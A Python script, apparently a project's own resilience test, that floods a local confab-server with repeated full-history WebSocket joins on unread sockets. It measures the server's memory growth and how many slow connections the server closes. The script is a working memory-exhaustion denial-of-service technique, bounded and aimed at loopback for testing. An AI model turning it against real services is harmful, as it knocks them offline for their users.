#!/usr/bin/env python3
"""Join amplification against a running confab-server, measuring its memory.

Fills a room with history through the HTTP publish API, then opens N
WebSockets that each ask for the room's whole history again and again
(`join` with `since` offset 0) and never read. Prints the server's resident
memory (VmRSS of --server-pid) before, while the sockets hang, and how many
of them the server closed. Only loopback; every loop is bounded.

    confab-server --bind 127.0.0.1:18500 --api-key k --rate-per-sec 1000 --rate-burst 1000 &
    scripts/attacks/join_amplification.py --port 18500 --server-pid $!
"""
import argparse
import base64
import json
import os
import socket
import struct
import time
import urllib.request


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def slow_consumers(base):
    """The server's count of connections closed with 4001 (its /metrics)."""
    body = urllib.request.urlopen(f"{base}/metrics", timeout=10).read().decode()
    for line in body.splitlines():
        if line.startswith("confab_slow_consumers_total "):
            return int(line.split()[1])
    raise RuntimeError("no confab_slow_consumers_total in /metrics")


def ws_connect(port, path="/ws"):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            raise RuntimeError("closed during handshake")
        head += chunk
    if not head.startswith(b"HTTP/1.1 101"):
        raise RuntimeError(head.split(b"\r\n")[0].decode())
    return s


def frame(text):
    data = text.encode()
    n = len(data)
    if n < 126:
        hdr = struct.pack("!BB", 0x81, 0x80 | n)
    elif n < 65536:
        hdr = struct.pack("!BBH", 0x81, 0x80 | 126, n)
    else:
        hdr = struct.pack("!BBQ", 0x81, 0x80 | 127, n)
    return hdr + b"\0\0\0\0" + data


def read_frame(s):
    def exact(n):
        out = b""
        while len(out) < n:
            chunk = s.recv(n - len(out))
            if not chunk:
                raise RuntimeError("closed")
            out += chunk
        return out

    b0, b1 = exact(2)
    n = b1 & 0x7F
    if n == 126:
        n = struct.unpack("!H", exact(2))[0]
    elif n == 127:
        n = struct.unpack("!Q", exact(8))[0]
    return b0 & 0x0F, exact(n)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--server-pid", type=int, required=True)
    p.add_argument("--api-key", default="k")
    p.add_argument("--sockets", type=int, default=50)
    p.add_argument("--joins", type=int, default=90, help="joins per socket (within the default burst)")
    p.add_argument("--messages", type=int, default=1000)
    p.add_argument("--size", type=int, default=16 * 1024, help="bytes of text per message")
    p.add_argument("--hold", type=float, default=10.0, help="seconds to keep the sockets unread")
    a = p.parse_args()
    base = f"http://127.0.0.1:{a.port}"
    text = "x" * a.size
    for i in range(a.messages):
        req = urllib.request.Request(
            f"{base}/api/rooms/amp/messages",
            data=json.dumps({"text": text, "i": i}).encode(),
            headers={"Authorization": f"Bearer {a.api_key}", "Content-Type": "application/json"},
        )
        urllib.request.urlopen(req, timeout=10).read()
    # Learn the epoch with one well-behaved join.
    probe = ws_connect(a.port)
    read_frame(probe)  # welcome
    probe.sendall(frame(json.dumps({"type": "join", "ref": "p", "room": "amp"})))
    while True:
        op, data = read_frame(probe)
        if op == 1 and b'"joined"' in data[:40]:
            epoch = json.loads(data)["epoch"]
            break
    probe.close()
    before = rss_mib(a.server_pid)
    slow_before = slow_consumers(base)
    join = frame(json.dumps({"type": "join", "room": "amp", "since": {"epoch": epoch, "offset": 0}}))
    socks = []
    for _ in range(a.sockets):
        s = ws_connect(a.port)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(join * a.joins)
        socks.append(s)
    peak = before
    deadline = time.time() + a.hold
    while time.time() < deadline:
        peak = max(peak, rss_mib(a.server_pid))
        time.sleep(0.2)
    closed = slow_consumers(base) - slow_before
    for s in socks:
        s.close()
    time.sleep(1)
    print(
        f"history {a.messages} x {a.size} B; {a.sockets} sockets x {a.joins} joins, unread for {a.hold:.0f} s: "
        f"server RSS {before:.0f} MiB before, peak {peak:.0f} MiB (+{peak - before:.0f}), "
        f"{rss_mib(a.server_pid):.0f} MiB after closing; {closed} of {a.sockets} closed with 4001"
    )


if __name__ == "__main__":
    main()
